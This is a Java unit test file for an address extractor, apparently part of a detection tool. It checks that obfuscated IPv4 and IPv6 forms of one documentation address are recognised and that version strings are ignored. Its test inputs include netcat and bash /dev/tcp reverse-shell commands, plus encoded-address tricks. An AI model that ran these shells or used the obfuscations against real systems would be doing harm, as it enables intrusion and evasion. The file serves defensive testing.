package bzh.vigie.observable;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** What Python's socket.inet_aton and inet_pton make of these texts, which ask the C library. */
final class AddressesTest {
    private static final Set<String> ONE = Set.of("203.0.113.66");

    @Test
    void everyWritingThatTheSystemTakesIsTheSameAddress() {
        for (String written : List.of(
                "203.0.113.66",
                "203.0.28994",
                "203.28994",
                "3405803842",
                "0xcb007142",
                "0x00cb007142",
                "0xCB.0.0x71.66",
                "0xcb.0x7142",
                "203.0x0.0161.66",
                "0313.0.0161.0102",
                "00000000313.0.113.66",
                "031300070502",
                "[::ffff:203.0.113.66]",
                "[::ffff:cb00:7142]",
                "[0:0:0:0:0:FFFF:CB00:7142]",
                "[64:ff9b::203.0.113.66]",
                "[64:ff9b::cb00:7142]")) {
            for (String text : List.of("curl http://%s/x", "wget -q https://u:p@%s:8443/x", "http://%s.")) {
                assertEquals(ONE, Addresses.in(text.formatted(written), false), written);
            }
            assertEquals(ONE, Addresses.in("nc -e /bin/sh " + written + " 4444", true), written);
        }
        assertEquals(ONE, Addresses.in("bash -i >& /dev/tcp/3405803842/443 0>&1", false));
        assertEquals(Set.of("11.0.113.66"), Addresses.in("ping http://0xb007142", false));
        assertEquals(Set.of("1.0.0.2"), Addresses.in("ftp://1.2/", false));
    }

    /** Python, Perl, bash and Node write 203.0.113.66 for each; PHP, Ruby and .NET by their manuals. */
    @Test
    void aNumberOfWhichAProgramMakesAnAddressIsThatAddress() {
        for (String program : List.of(
                "socket.inet_ntoa(struct.pack('>I',3405803842))",
                "socket.inet_ntoa(struct.pack('<I',1114702027))",
                "socket.inet_ntoa(bytes.fromhex('cb007142'))",
                "ipaddress.ip_address(3405803842)",
                "'.'.join(map(str,(3405803842).to_bytes(4,'big')))",
                "'.'.join(str(3405803842>>i&255) for i in (24,16,8,0))",
                "h='CB007142'\n'.'.join(str(int(h[i:i+2],16)) for i in range(0,8,2))",
                "my $p=join '.',map{hex}unpack('(A2)4','CB007142');",
                "join('.',unpack('C4',pack('N',3405803842)))",
                "inet_ntoa(pack('V',1114702027))",
                "n=3405803842; echo $((n>>24)).$((n>>16&255)).$((n>>8&255)).$((n&255))",
                "h=cb007142; printf '%d.%d.%d.%d' 0x${h:0:2} 0x${h:2:2} 0x${h:4:2} 0x${h:6:2}",
                "[24,16,8,0].map(i=>3405803842>>>i&255).join('.')",
                "'cb007142'.match(/../g).map(x=>parseInt(x,16)).join('.')",
                "long2ip(hexdec(\"cb007142\"))",
                "long2ip(3405803842)",
                "[3405803842].pack('N').unpack('C4').join('.')",
                "([ipaddress]1114702027).IPAddressToString",
                "new IPAddress(1114702027)")) {
            assertTrue(Addresses.in(program, false).contains("203.0.113.66"), program);
        }
        for (String text : List.of(
                "made 1733234400 id cb007142",
                "{cb007142-0000-4000-8000-000000000000} unpack",
                "struct.unpack('<I', x); version = '20261203'",
                "unpack('N', $x); $most = 4294967296 + 65536;")) {
            assertEquals(Set.of(), Addresses.in(text, false), text);
        }
    }

    @Test
    void addressesOfIpv6HaveOneWriting() {
        Map<String, String> all = Map.of(
                "2001:db8::1", "2001:db8:0:0:0:0:0:1",
                "2001:DB8:0::C2", "2001:db8:0:0:0:0:0:c2",
                "2001:0db8:004f:0007:0000:0000:0000:00C2", "2001:db8:4f:7:0:0:0:c2",
                "2001:db8:1:2:3:4:5:6", "2001:db8:1:2:3:4:5:6");
        all.forEach((written, address) -> {
            assertEquals(Set.of(address), Addresses.in("curl -g http://[" + written + "]:80/x", false), written);
            assertEquals(Set.of(address), Addresses.in("from " + written + ": refused", false), written);
        });
        assertEquals(
                "2001:db8:4f:7::/64",
                Addresses.network("2001:db8:4f:7:0:0:0:c2").orElse(""));
        assertEquals("", Addresses.network("203.0.113.66").orElse(""));
    }

    @Test
    void numbersAndVersionsAreNoAddresses() {
        for (String text : List.of(
                "203.0.113.256 203.0.65536 203.16777216 4294967296 0313.0.0161.0108",
                "http://203.0.113.256/ http://203.16777216/ http://4294967296/ http://012345678901/",
                "version 1.2.3, python3.13 5.10.0-28 2.5",
                "npm install left-pad@4.17.21 @2.1",
                "// 1.2 fixed; /proc/12345678/fd",
                "1.2.3.4.5 x1.2.3.4 1.2.3.4x",
                "10.0.0.1 127.0.0.1 192.168.1.4 0x7f000001 http://0x7f.1 172.16.3.4 224.0.0.1",
                "::1 fe80::1 fd00::1 ff02::1 :: face::bad std::string a::b 12:30:45 52:54:00:12:34:56",
                "2001:db8::1::2 2001:db8:1:2:3:4:5:6:7 12001:db8::1")) {
            assertEquals(Set.of(), Addresses.in(text, false), text);
        }
        assertEquals(Set.of(), Addresses.in("tool 1.2.3 2.5 v4.0", true));
    }
}
